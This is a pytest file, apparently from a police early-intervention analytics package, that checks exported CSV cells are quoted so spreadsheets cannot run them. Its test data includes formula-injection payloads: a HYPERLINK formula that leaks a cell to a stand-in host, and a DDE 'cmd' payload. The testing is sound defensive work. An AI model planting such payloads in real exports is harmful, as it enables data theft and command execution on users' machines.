"""CSV formula injection (issue 21, item 8): `=HYPERLINK("http://...")` in a source value came
out verbatim in `audit --rows`, for a spreadsheet to run. Every CSV OpenEIS writes for people
goes through openeis.csv_safety; the files it writes as input for itself hold no such cell.
"""

from __future__ import annotations

import csv
import re
import stat
from pathlib import Path

import pandas as pd

import openeis
from openeis.audit import write_rows_csv
from openeis.csv_safety import FORMULA_STARTS, csv_text, safe_cell

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "=1+2",
            "=cmd|' /C calc'!A0"]


def test_audit_rows_never_hold_a_formula(tmp_path):
    rows = pd.DataFrame({
        "officer": ["a1b2c3", "=HYPERLINK(\"http://x.example\")", "d4e5f6", "a7b8c9", "b1b2b3", "c1c2c3", "d1d2d3"],
        "as_of": ["2024-01-01"] * 7,
        "flag": [1, 0, 0, 1, 0, 0, 1],
        "label": [0, 1, 0, 0, 1, 0, 0],
        "score": [0.91, 0.12, -0.5, 0.3, 0.2, 0.1, 0.4],
        "ethnicity": FORMULAS,
    })
    path = write_rows_csv(rows, tmp_path / "rows.csv")
    with open(path, newline="") as handle:
        written = list(csv.DictReader(handle))
    for row, formula in zip(written, FORMULAS):
        assert row["ethnicity"] == "'" + formula
    assert written[1]["officer"].startswith("'=")
    assert [row["score"] for row in written][:3] == ["0.91000000000000003", "0.12", "-0.5"]  # numbers stay numbers
    assert stat.S_IMODE(path.stat().st_mode) == 0o600  # protected characteristics beside pseudonyms


def test_the_helper_quotes_only_what_a_spreadsheet_would_run():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "plain", "", None, 5, -5, 1.5)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "plain", "", "", 5, -5, 1.5]
    text = csv_text(["=h"], [["=x"], [3]])
    assert text.splitlines() == ["'=h", "'=x", "3"]


# Where the package writes CSV, and why each is safe.
CSV_WRITERS = {
    "csv_safety.py": "the helper itself",
    "audit/report.py": "audit --rows, through safe_cell",
    "synth/writer.py": "synthetic input files for ingest: generated values (checked below)",
    "store/postgres_store.py": "COPY to and from the server: a transport, never a file for people",
}
WRITES_CSV = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|pacsv\.write_csv\(|CSVWriter\(")


def test_every_csv_writer_is_known_and_uses_the_helper():
    root = Path(openeis.__file__).parent
    found = {str(path.relative_to(root)) for path in root.rglob("*.py") if WRITES_CSV.search(path.read_text())}
    assert found <= set(CSV_WRITERS), f"a new CSV writer must use openeis.csv_safety: {found - set(CSV_WRITERS)}"
    assert "safe_cell" in (root / "audit" / "report.py").read_text()


def test_synthetic_files_hold_no_cell_a_spreadsheet_would_run(tmp_path):
    from openeis.synth import SynthOptions, generate_force

    generate_force(SynthOptions(officers=60, years=2, seed=3), tmp_path)
    number = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
    for path in tmp_path.glob("*.csv"):
        with open(path, newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS) or number.fullmatch(cell), (path.name, cell)
